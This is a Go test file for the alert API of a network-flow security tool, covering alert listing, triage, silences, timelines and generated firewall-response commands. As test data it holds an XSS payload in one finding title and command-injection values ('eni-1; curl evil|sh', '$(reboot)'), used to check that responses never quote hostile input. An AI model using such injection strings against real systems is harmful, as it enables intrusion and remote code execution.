package daemon

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/weir-flow/weir/internal/access"
	"github.com/weir-flow/weir/internal/alert"
	"github.com/weir-flow/weir/internal/api"
	"github.com/weir-flow/weir/internal/finding"
)

// alertDesk is the API over a store with five days of one host, which on the last calls a
// public address often and a neighbour's port 445 for the first time.
type alertDesk struct {
	t      *testing.T
	url    string
	alerts *alert.Store
	now    time.Time
}

const deskAccount = "123456789010"

func newAlertDesk(t *testing.T) *alertDesk {
	t.Helper()
	var logs strings.Builder
	line := func(src, dst string, port, bytes int, at time.Time) {
		fmt.Fprintf(&logs, "2 %s eni-0a1b2c3d4e5f60718 %s %s 40000 %d 6 10 %d %d %d ACCEPT OK\n", deskAccount, src, dst, port, bytes, at.Unix(), at.Unix()+50)
	}
	for at := day.AddDate(0, 0, -5); at.Before(day); at = at.Add(20 * time.Minute) {
		line("10.0.0.5", "10.0.0.9", 443, 1000, at)
	}
	for i := range 60 {
		line("10.0.0.5", "45.33.32.156", 443, 2_000_000, day.Add(-3*time.Hour+time.Duration(i)*time.Minute))
	}
	line("10.0.0.5", "10.0.0.77", 445, 1000, day.Add(-4*time.Hour))
	dir := t.TempDir()
	file := filepath.Join(dir, "flows.log")
	if err := os.WriteFile(file, []byte(logs.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	l := open(t, filepath.Join(dir, "data"))
	if _, err := l.Ingest(t.Context(), []string{file}, nil, IntakeConfig{}, nil); err != nil {
		t.Fatal(err)
	}
	book, err := l.Rules(t.Context(), RuleSettings{})
	if err != nil {
		t.Fatal(err)
	}
	d := &alertDesk{t: t, now: day.Add(time.Hour)}
	if d.alerts, err = l.Alerts(t.Context()); err != nil {
		t.Fatal(err)
	}
	guard := access.NewGuard(access.GuardConfig{Loopback: true})
	people, err := access.Open(t.Context(), l.State, access.Config{})
	if err != nil {
		t.Fatal(err)
	}
	guard.Use(people)
	h := api.New(api.Config{Query: l.Query(), Guard: guard, Access: people, Alerts: d.alerts, AlertRules: &alertRules{l: l, book: book}}).Handler()
	server := httptest.NewServer(guard.Wrap(h))
	t.Cleanup(server.Close)
	d.url = server.URL + api.Prefix
	return d
}

// raise puts a finding in, and returns the id of its alert.
func (d *alertDesk) raise(rule string, family finding.Family, e finding.Entity, severity finding.Severity, change func(*finding.Finding)) string {
	d.t.Helper()
	first := day.Add(-3 * time.Hour)
	f := finding.Finding{
		Rule: rule, Family: family, Title: "found by " + rule, Severity: severity, Score: 50, Entity: e, Window: first.Truncate(24 * time.Hour),
		FirstSeen: first, LastSeen: first.Add(time.Hour), Found: first.Add(time.Hour), Count: 60, Why: "why of " + rule,
		Evidence: finding.Evidence{Filter: "srcaddr:10.0.0.5 AND dstaddr:45.33.32.156", Since: first, Until: first.Add(time.Hour), Count: 60, Exact: true},
		Response: []string{"look at it"},
	}
	if change != nil {
		change(&f)
	}
	f.ID = finding.ID(rule, e, f.Window)
	if _, err := d.alerts.Apply(d.t.Context(), f); err != nil {
		d.t.Fatal(err)
	}
	return alert.ID(f)
}

func deskHost(id string) finding.Entity {
	return finding.Entity{Kind: finding.KindAddress, Network: deskAccount, ID: id}
}

// ask sends a request and reads its answer into out, which may be nil.
func (d *alertDesk) ask(status int, method, path string, body, out any) {
	d.t.Helper()
	var send io.Reader
	if body != nil {
		text, err := json.Marshal(body)
		if err != nil {
			d.t.Fatal(err)
		}
		send = bytes.NewReader(text)
	}
	r, err := http.NewRequestWithContext(d.t.Context(), method, d.url+path, send)
	if err != nil {
		d.t.Fatal(err)
	}
	r.Header.Set("Content-Type", "application/json")
	got, err := http.DefaultClient.Do(r)
	if err != nil {
		d.t.Fatal(err)
	}
	defer got.Body.Close()
	text, err := io.ReadAll(got.Body)
	if err != nil {
		d.t.Fatal(err)
	}
	if got.StatusCode != status {
		d.t.Fatalf("%s %s: %d, want %d: %s", method, path, got.StatusCode, status, text)
	}
	if out != nil {
		if err := json.Unmarshal(text, out); err != nil {
			d.t.Fatalf("%s %s: %v: %s", method, path, err, text)
		}
	}
}

type object = map[string]any

// TestAlertsOverHTTP: alerts are listed, counted, judged and silenced over HTTP, and
// each change is in the audit with who made it.
func TestAlertsOverHTTP(t *testing.T) {
	t.Parallel()
	d := newAlertDesk(t)
	beacon := d.raise("beacon", finding.Beacon, deskHost("10.0.0.5"), finding.High, func(f *finding.Finding) {
		f.Page, f.SrcAddr, f.DstAddr = true, netip.MustParseAddr("10.0.0.5"), netip.MustParseAddr("45.33.32.156")
	})
	scan := d.raise("scan-inbound", finding.Scan, finding.Entity{Kind: finding.KindAddress, ID: "45.33.32.156"}, finding.Low, func(f *finding.Finding) {
		f.Exposure, f.Title, f.SrcAddr = true, `<img src=x onerror=alert(1)>`, netip.MustParseAddr("45.33.32.156")
	})
	edge := d.raise("new-edge", finding.NewEdge, deskHost("10.0.0.77"), finding.Medium, nil)

	var counts api.AlertCounts
	d.ask(200, "GET", "/alerts/counts", nil, &counts)
	if counts.Open != 2 || counts.Pages != 1 || counts.Exposure != 1 || counts.BySeverity["high"] != 1 || counts.Total != 3 {
		t.Errorf("counts %+v", counts)
	}
	ids := func(query string) (out []string, next string) {
		t.Helper()
		var page struct {
			Alerts []struct{ ID, Title string }
			Next   string
		}
		d.ask(200, "GET", "/alerts"+query, nil, &page)
		for _, a := range page.Alerts {
			out = append(out, a.ID)
		}
		return out, page.Next
	}
	want := func(query string, wanted ...string) {
		t.Helper()
		got, _ := ids(query)
		if len(got) != len(wanted) {
			t.Fatalf("%s: %v, want %v", query, got, wanted)
		}
		for _, w := range wanted {
			if !strings.Contains(strings.Join(got, " "), w) {
				t.Errorf("%s: %v, want %v", query, got, wanted)
			}
		}
	}
	want("?exposure=false", beacon, edge)
	want("?exposure=true", scan)
	want("?severity=medium", beacon, edge)
	want("?family=scan,beacon&page=true", beacon)
	want("?rule=new-edge", edge)
	want("?entity=10.0.0.77", edge)
	want("?text=onerror", scan)
	want("?status=resolved")
	want("?since=end-24h&until=end", beacon, edge, scan)
	want("?since=2026-03-01&until=2026-03-02")
	first, next := ids("?limit=2")
	rest, end := ids("?limit=2&cursor=" + next)
	if len(first) != 2 || len(rest) != 1 || end != "" {
		t.Errorf("pages %v, %v, %q", first, rest, end)
	}
	for _, bad := range []string{"?status=open", "?family=scann", "?severity=bad", "?cursor=x", "?verdict=maybe", "?since=yesterdayish"} {
		d.ask(400, "GET", "/alerts"+bad, nil, nil)
	}
	d.ask(404, "GET", "/alerts/aaaaaaaa", nil, nil)

	// A change names the person, and a second one says that it was made already.
	var one object
	d.ask(200, "POST", "/alerts/"+beacon[:8]+"/acknowledge", object{}, &one)
	if one["status"] != "acknowledged" {
		t.Errorf("%v", one)
	}
	d.ask(200, "POST", "/alerts/"+beacon+"/note", object{"text": "asked Ann"}, nil)
	d.ask(400, "POST", "/alerts/"+beacon+"/note", object{"text": "  "}, nil)
	d.ask(400, "POST", "/alerts/"+beacon+"/resolve", object{"verdict": "perhaps"}, nil)
	d.ask(200, "POST", "/alerts/"+beacon+"/resolve", object{"verdict": "true_positive", "note": "host is off"}, &one)
	if one["status"] != "resolved" || one["verdict"] != "true_positive" {
		t.Errorf("%v", one)
	}
	d.ask(409, "POST", "/alerts/"+beacon+"/acknowledge", object{}, nil)
	d.ask(200, "POST", "/alerts/"+beacon+"/reopen", object{}, &one)
	if one["status"] != "firing" || one["verdict"] != nil {
		t.Errorf("reopened: %v", one)
	}
	var detail struct {
		Command, StatusBy string
		Rule              struct{ ID, Description string }
		Notes             []alert.Note
		Audit             []alert.Entry
		Parts             []struct{ Tactic, Alert string }
	}
	d.ask(200, "GET", "/alerts/"+beacon, nil, &detail)
	var acts []string
	for _, e := range detail.Audit {
		acts = append(acts, e.Who+" "+e.Action)
	}
	if got := strings.Join(acts, ", "); got != "local acknowledge, local note, local note, local resolve, local reopen" {
		t.Errorf("audit: %s", got)
	}
	if len(detail.Notes) != 2 || detail.Rule.ID != "beacon" || len(detail.Rule.Description) < 20 || len(detail.Parts) != 1 || detail.Parts[0].Tactic == "" ||
		!strings.HasPrefix(detail.Command, "weir query 'srcaddr:10.0.0.5 AND dstaddr:45.33.32.156' --since 2026-03-10T12:00:00Z") {
		t.Errorf("detail %+v", detail)
	}

	var done api.AlertBulkDone
	d.ask(200, "POST", "/alerts/bulk", object{"ids": []string{beacon, edge, "aaaaaaaa"}, "action": "resolve", "verdict": "benign"}, &done)
	if done.Changed != 2 || len(done.Failed) != 1 || done.Failed[0].Id != "aaaaaaaa" {
		t.Errorf("bulk %+v", done)
	}
	want("?status=resolved&verdict=benign", beacon, edge)
	d.ask(400, "POST", "/alerts/bulk", object{"ids": []string{}, "action": "resolve"}, nil)
	d.ask(200, "POST", "/alerts/bulk", object{"ids": []string{beacon, edge}, "action": "reopen"}, nil)

	// A silence is tried first, has an end, and hides nothing from who looks for it.
	var preview object
	about := object{"families": []string{"beacon"}, "entities": []string{"10.0.0.5"}}
	d.ask(200, "POST", "/silences/preview", object{"matches": about}, &preview)
	if preview["text"] != "would have hidden 1 of 3 in 30 days, 1 of them high or critical" {
		t.Errorf("preview %v", preview)
	}
	d.ask(400, "POST", "/silences/preview", object{"matches": object{}}, nil)
	d.ask(400, "POST", "/silences", object{"matches": about, "owner": " ", "reason": "r"}, nil)
	d.ask(400, "POST", "/silences", object{"matches": about, "owner": "ann", "reason": ""}, nil)
	d.ask(400, "POST", "/silences", object{"matches": about, "owner": "ann", "reason": "r", "seconds": 400 * 24 * 3600}, nil)
	d.ask(400, "POST", "/silences", object{"matches": object{"addresses": []string{"10.0.0.300"}}, "owner": "ann", "reason": "r"}, nil)
	var made struct {
		ID             int64
		Made_by        string
		Until, Made_at time.Time
		Active         bool
	}
	d.ask(200, "POST", "/silences", object{"matches": about, "owner": "ann", "reason": "new backup"}, &made)
	if made.Until.Sub(made.Made_at).Round(time.Second) != 24*time.Hour || made.Made_by != "local" || !made.Active {
		t.Errorf("silence %+v", made)
	}
	want("?silenced=true", beacon)
	d.ask(200, "GET", "/alerts/counts", nil, &counts)
	if counts.Open != 1 || counts.Silenced != 1 {
		t.Errorf("counts %+v", counts)
	}
	var list []struct {
		ID    int64
		Hides int
	}
	d.ask(200, "GET", "/silences", nil, &list)
	if len(list) != 1 || list[0].Hides != 1 {
		t.Errorf("silences %+v", list)
	}
	d.ask(200, "DELETE", fmt.Sprint("/silences/", made.ID), nil, nil)
	d.ask(409, "DELETE", fmt.Sprint("/silences/", made.ID), nil, nil)
	d.ask(404, "DELETE", "/silences/99", nil, nil)
	want("?silenced=true")

	var noise struct {
		Total   int
		Sources []struct {
			Source finding.Entity
			Flows  int
			Alert  string
		}
	}
	d.ask(200, "GET", "/alerts/exposure", nil, &noise)
	if noise.Total != 1 || noise.Sources[0].Source.ID != "45.33.32.156" || noise.Sources[0].Alert != scan {
		t.Errorf("noise %+v", noise)
	}
	var watch api.AlertWatch
	d.ask(200, "GET", "/alerts/watch", nil, &watch)
	if watch.Rules < 20 || len(watch.Blind) == 0 { // the records are of version 2, and none is rejected
		t.Errorf("%d rules, %d blind", watch.Rules, len(watch.Blind))
	}
}

// TestAlertExplained: what an alert counts, what happened around it, what is related
// and what to do are told from what is stored.
func TestAlertExplained(t *testing.T) {
	t.Parallel()
	d := newAlertDesk(t)
	beacon := d.raise("beacon", finding.Beacon, deskHost("10.0.0.5"), finding.High, func(f *finding.Finding) {
		f.SrcAddr, f.DstAddr = netip.MustParseAddr("10.0.0.5"), netip.MustParseAddr("45.33.32.156")
	})
	surge := d.raise("surge-flows", finding.Surge, finding.Entity{Kind: finding.KindInterface, ID: "eni-0a1b2c3d4e5f60718"}, finding.Medium, func(f *finding.Finding) {
		f.Usual = &finding.Range{Low: 0, High: 3, Unit: "flows"}
		f.Evidence.Filter = "interface_id:eni-0a1b2c3d4e5f60718"
	})
	other := d.raise("new-edge", finding.NewEdge, deskHost("10.0.0.5"), finding.Low, nil)

	type series struct {
		Unit   string
		Bucket int `json:"bucket_seconds"`
		Times  []int64
		Values []*float64
		Usual  *struct {
			Basis     string
			Low, High []float64
			Days      int
		}
		WhyNot string `json:"why_not"`
	}
	sum := func(s series) (n float64) {
		for _, v := range s.Values {
			if v != nil {
				n += *v
			}
		}
		return n
	}
	var s series
	d.ask(200, "GET", "/alerts/"+beacon+"/series", nil, &s)
	if s.Unit != "flows" || sum(s) != 60 || s.Usual == nil || s.Usual.Basis != "days" || s.Usual.Days < 4 || len(s.Usual.High) != len(s.Times) || len(s.Values) != len(s.Times) {
		t.Errorf("series of the beacon: %+v, sum %v", s, sum(s))
	}
	for i, v := range s.Usual.High {
		if v != 0 { // it never called there before
			t.Errorf("bucket %d: usual up to %v", i, v)
		}
	}
	d.ask(200, "GET", "/alerts/"+surge+"/series", nil, &s)
	if s.Bucket != 600 || s.Usual == nil || s.Usual.Basis != "rule" || s.Usual.High[0] != 3 {
		t.Errorf("series of the surge: %+v", s)
	}
	d.ask(200, "GET", "/alerts/"+beacon+"/series?brief=true", nil, &s)
	if n := len(s.Times); n < 8 || n > 40 || sum(s) != 60 {
		t.Errorf("brief: %d buckets, sum %v", n, sum(s))
	}

	var timeline struct {
		Items []struct {
			At                  time.Time
			Kind, Title, Filter string
		}
		Warnings []string
	}
	d.ask(200, "GET", "/alerts/"+beacon+"/timeline", nil, &timeline)
	var told []string
	for i, x := range timeline.Items {
		told = append(told, x.At.UTC().Format("15:04 ")+x.Kind+" "+x.Title)
		if i > 0 && x.At.Before(timeline.Items[i-1].At) {
			t.Errorf("not in time: %v", x)
		}
		if x.Filter != "" { // whoever clicks it gets records
			var found struct{ Values [][]any }
			d.ask(200, "GET", "/query?limit=1&since=end-5d&columns=start&filter="+strings.NewReplacer(" ", "+", "&", "%26", `"`, "%22").Replace(x.Filter), nil, &found)
			if len(found.Values) != 1 || len(found.Values[0]) != 1 {
				t.Errorf("%s: %q gives nothing", x.Title, x.Filter)
			}
		}
	}
	all := strings.Join(told, "\n")
	for _, want := range []string{
		"11:00 new_peer First call to 10.0.0.77 on port 445 (smb)", "12:00 new_peer First call to 45.33.32.156 on port 443 (https)",
		"12:00 this found by beacon", "12:00 alert found by new-edge", "12:00 volume Far more traffic than the day before",
	} {
		if !strings.Contains(all, want) {
			t.Errorf("the timeline lacks %q:\n%s\n%v", want, all, timeline.Warnings)
		}
	}
	if strings.Contains(all, "10.0.0.9") {
		t.Errorf("what is old is told as new:\n%s", all)
	}

	var related struct {
		Related []struct {
			Alert   struct{ ID string }
			Reasons []string
		}
	}
	d.ask(200, "GET", "/alerts/"+beacon+"/related", nil, &related)
	// The three have become an incident.
	if len(related.Related) < 2 || related.Related[0].Reasons[0] != "the incident that this is part of" || related.Related[1].Alert.ID != other ||
		strings.Join(related.Related[1].Reasons, ", ") != "part of the same incident, about the same address" {
		t.Errorf("related %+v", related)
	}

	var response struct {
		Steps  []string
		Blocks []struct{ Title, CLI, Terraform string }
	}
	d.ask(200, "GET", "/alerts/"+beacon+"/response", nil, &response)
	if len(response.Steps) != 1 || len(response.Blocks) != 2 {
		t.Fatalf("response %+v", response)
	}
	deny, isolate := response.Blocks[0], response.Blocks[1]
	if !strings.Contains(deny.CLI, "--egress --rule-number 50 --protocol -1 --rule-action deny --cidr-block 45.33.32.156/32") ||
		!strings.Contains(deny.Terraform, `= "45.33.32.156/32"`) || !strings.Contains(isolate.CLI, "--network-interface-id eni-0a1b2c3d4e5f60718") {
		t.Errorf("response %+v", response)
	}
}

// TestResponseQuotesNothingHostile: what stands in a log never gets into a command.
func TestResponseQuotesNothingHostile(t *testing.T) {
	t.Parallel()
	d := newAlertDesk(t)
	silent := d.raise("log-silent", finding.LogHealth, finding.Entity{Kind: finding.KindInterface, ID: "eni-1; curl evil|sh"}, finding.High, func(f *finding.Finding) {
		f.Evidence = finding.Evidence{Missing: &finding.Missing{InterfaceID: "eni-1; curl evil|sh", Since: f.FirstSeen, Until: f.LastSeen}}
	})
	odd := d.raise("beacon", finding.Beacon, finding.Entity{Kind: finding.KindAddress, Network: "$(reboot)", ID: "10.0.0.5"}, finding.High, nil)
	for _, id := range []string{silent, odd} {
		var r struct {
			Blocks []struct{ CLI, Terraform string }
		}
		d.ask(200, "GET", "/alerts/"+id+"/response", nil, &r)
		for _, b := range r.Blocks {
			if strings.Contains(b.CLI+b.Terraform, "curl evil") || strings.Contains(b.CLI+b.Terraform, "reboot") {
				t.Errorf("%s", b.CLI)
			}
		}
		d.ask(200, "GET", "/alerts/"+id+"/timeline", nil, nil)
		d.ask(200, "GET", "/alerts/"+id+"/series", nil, nil)
	}
}
